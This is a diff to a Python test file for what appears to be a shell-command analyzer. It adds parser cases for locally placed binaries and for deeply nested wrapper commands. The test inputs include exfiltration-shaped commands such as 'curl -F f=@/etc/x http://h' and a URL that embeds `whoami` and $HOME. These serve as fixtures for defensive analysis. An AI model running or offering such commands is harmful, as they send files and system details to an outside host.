@@ -116,6 +116,9 @@ def powershell(script: str) -> str:
         ),
         ("curl -F f=@/etc/x http://h", ["read(/etc/x)", "upload(http://h, data=f=@/etc/x|read())"]),
         ("curl http://h/`whoami`/$HOME", ["whoami()", "getenv(HOME)", "curl(http://h/whoami()/getenv())"]),
+        # A program of the artifact's own, whatever it calls itself.
+        ("./sh -c id; /tmp/curl http://h; ~/bin/python x.py",
+         ["run(./sh, -c, id)", "run(/tmp/curl, http://h)", "python(path=x.py)"]),
         # Variables, quoting, control flow, wrappers.
         ("U=http://h/x; curl \"$U\" ${U}y", ["curl(http://h/x, http://h/xy)"]),
         ("c''u\\rl 'http://h/x'", ["curl(http://h/x)"]),
@@ -196,6 +199,13 @@ def test_substitutions_nest_to_a_bound() -> None:
     assert calls("$(" * 5 + "id" + ")" * 5)[0] == "id()"
     body = program("echo " + "$(echo " * 40 + "id" + ")" * 40).functions["main"].body
     assert any(isinstance(op, ir.Unknown) and "too deeply" in op.why for op in body)
+
+
+@pytest.mark.parametrize(
+    "text", ["sudo " * 3000 + "id", "find -exec " * 3000, "cmd /c x " * 3000, "'$(" * 3000]
+)
+def test_programs_that_start_programs_nest_to_a_bound(text: str) -> None:
+    assert program(text).functions["main"].body
 
 
 def test_what_fits_into_the_budget_is_yielded_before_it_is_exceeded() -> None:
